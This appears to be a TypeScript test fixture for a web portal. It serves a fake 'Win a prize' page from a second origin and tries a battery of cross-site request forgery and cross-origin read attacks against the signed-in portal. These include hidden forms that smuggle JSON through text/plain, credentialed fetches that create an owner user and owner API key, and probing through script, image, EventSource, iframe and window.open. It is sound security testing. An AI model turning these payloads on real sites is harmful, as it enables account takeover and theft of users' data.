/**
 * Another site that the browser of somebody who is signed in comes to. Its page asks the portal's server in
 * every way that a page has without being let in, and notes what it could read of the answers.
 */
import { once } from 'node:events';
import { createServer, type Server } from 'node:https';
import type { AddressInfo } from 'node:net';
import type { TlsIdentity } from '#relay-server/tls/certificate.ts';

export class ForeignSite implements AsyncDisposable {
  readonly #server: Server;
  readonly #cookies = new Set<string>();

  private constructor(server: Server) {
    this.#server = server;
  }

  /** On loopback, under both of its names, which are two sites to a browser. */
  static async open(identity: TlsIdentity, victim: string): Promise<ForeignSite> {
    const server = createServer({ cert: identity.certificate, key: identity.key });
    const site = new ForeignSite(server);
    server.on('request', (request, response) => {
      for (const pair of (request.headers.cookie ?? '').split('; ')) {
        const [name = ''] = pair.split('=');
        if (name !== '') site.#cookies.add(name);
      }
      response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(page(victim));
    });
    server.listen(0);
    await once(server, 'listening');
    return site;
  }

  /** Names of the cookies that browsers brought here since the last time. */
  takeCookies(): readonly string[] {
    const names = [...this.#cookies];
    this.#cookies.clear();
    return names;
  }

  origin(host: string): string {
    return `https://${host}:${(this.#server.address() as AddressInfo).port}`;
  }

  async [Symbol.asyncDispose](): Promise<void> {
    this.#server.closeAllConnections();
    this.#server.close();
    await once(this.#server, 'close');
  }
}

/**
 * What the page leaves in `read`, and sets `done` at the end: each entry is something that it should not
 * have learned.
 */
function page(victim: string): string {
  return `<!doctype html><title>Win a prize</title><h1>Win a prize</h1>
<iframe name=sink hidden></iframe><iframe id=framed src="${victim}/s/constructor/groups"></iframe>
<script>
const victim = ${JSON.stringify(victim)};
const api = victim + '/api/v1';
const changes = [
  ['POST', '/subscriptions/constructor/groups', { name: 'evil' }],
  ['POST', '/subscriptions/constructor/changes', { changes: [{ do: 'create-group', name: 'evil' }] }],
  ['POST', '/people', { name: 'eve', displayName: 'Eve', rights: 'owner', password: 'another brick kettle violet' }],
  ['POST', '/api-keys', { rights: 'owner' }],
  ['POST', '/subscriptions/constructor/install-links', {}],
  ['POST', '/session', { name: 'eve', password: 'x' }],
  ['PATCH', '/account', { displayName: 'evil' }],
  ['DELETE', '/session', undefined],
  ['DELETE', '/subscriptions/constructor', undefined],
];
window.read = [];
const forms = changes.flatMap(([, path, body]) =>
  ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data'].map((enctype) => {
    const form = document.createElement('form');
    Object.assign(form, { action: api + path, method: 'post', enctype, target: 'sink' });
    const input = document.createElement('input');
    // As text/plain, name=value becomes JSON.
    Object.assign(input, { name: JSON.stringify(body ?? {}).slice(0, -1) + ',"padding":"', value: '"}' });
    form.append(input);
    document.body.append(form);
    return form;
  }));
const pause = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
const learn = async (what, ask) => {
  try {
    const learned = await ask();
    if (learned) read.push(what + ': ' + learned);
  } catch {}
};
(async () => {
  for (const form of forms) { form.submit(); await pause(60); }
  for (const [method, path, body] of changes) {
    for (const type of ['text/plain', 'application/json', 'application/x-www-form-urlencoded']) {
      for (const mode of ['no-cors', 'cors']) {
        await learn(method + path, async () => {
          const answer = await fetch(api + path, { method, mode, credentials: 'include', headers: { 'content-type': type },
            body: body && JSON.stringify(body) });
          return answer.type === 'opaque' ? '' : await answer.text();
        });
      }
    }
    await learn('beacon ' + path, async () => void navigator.sendBeacon(api + path, new Blob([JSON.stringify(body ?? {})])));
  }
  for (const path of ['/account', '/subscriptions', '/people', '/subscriptions/constructor/policy.yaml', '/audit?format=csv']) {
    await learn('GET ' + path, async () => (await fetch(api + path, { credentials: 'include' })).text());
    await learn('script ' + path, () => new Promise((resolve) => {
      const script = Object.assign(document.createElement('script'), { src: api + path, onload: () => resolve('ran'), onerror: () => resolve('') });
      document.body.append(script);
    }));
    await learn('picture ' + path, () => new Promise((resolve) => {
      const picture = Object.assign(new Image(), { src: api + path, onload: () => resolve('shown'), onerror: () => resolve('') });
    }));
  }
  await learn('events', () => new Promise((resolve) => {
    const events = new EventSource(api + '/events', { withCredentials: true });
    events.onmessage = ({ data }) => resolve(data);
    for (const type of ['hello', 'changed', 'presence']) events.addEventListener(type, ({ data }) => resolve(data));
    setTimeout(() => { events.close(); resolve(''); }, 1000);
  }));
  await learn('frame', () => framed.contentDocument?.body?.innerText.trim() || framed.contentWindow.length || '');
  const opened = window.open(victim + '/people');
  await pause(1500);
  await learn('window', () => (opened && !opened.closed && opened.location.href !== 'about:blank' ? opened.document.title : ''));
  window.done = true;
})();
</script>`;
}
